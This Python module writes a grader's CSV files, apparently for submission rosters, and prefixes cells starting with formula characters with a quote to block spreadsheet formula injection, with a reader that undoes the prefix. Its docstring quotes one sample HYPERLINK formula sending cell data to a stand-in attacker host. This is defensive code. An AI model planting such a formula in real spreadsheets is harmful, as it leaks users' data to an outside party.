"""Every CSV file the grader writes, through one writer that neutralises formulas.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula (``=HYPERLINK("http://attacker.example/?leak="&A1,"click")`` in a roster name sends
the sheet's data away when clicked). OWASP's rule (CSV injection): such a text field is written
with a leading ``'``, which the spreadsheet shows as text and does not display. A number
(``-1.5``) is written as it is. So that a file we read back (``SUBMISSIONS-collected.csv``) gives
the original text, a field that starts with ``'`` gets one more; :func:`read` removes the one we
added.
"""

from __future__ import annotations

import csv
import io

FORMULA = ("=", "+", "-", "@", "\t", "\r", "'")  # ... and the quote of a neutralised field


def neutral(value):
    """``value`` as a CSV field: text starting with one of :data:`FORMULA` gets a leading ``'``
    unless it is a number; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA):
        try:
            float(value)
        except ValueError:
            return "'" + value
    return value


def original(text):
    """The text :func:`neutral` was given (a field as read from a file written here)."""
    return text[1:] if text.startswith("'") and neutral(text[1:]) != text[1:] else text


def write(path, header, rows):
    """Write ``header`` and ``rows`` (sequences, or dicts keyed by the header's names) to the
    file ``path`` (UTF-8)."""
    with open(path, "w", newline="", encoding="utf-8") as f:
        _write(f, header, rows)


def text(header, rows):
    """The CSV text :func:`write` writes."""
    out = io.StringIO()
    _write(out, header, rows)
    return out.getvalue()


def _write(f, header, rows):
    w = csv.writer(f)
    w.writerow([neutral(h) for h in header])
    for row in rows:
        values = [row.get(h, "") for h in header] if isinstance(row, dict) else row
        w.writerow([neutral(v) for v in values])


def read(path):
    """The rows of a CSV file written by :func:`write`, as dicts of original texts."""
    with open(path, newline="", encoding="utf-8") as f:
        return [{k: original(v) if isinstance(v, str) else v for k, v in row.items()}
                for row in csv.DictReader(f)]
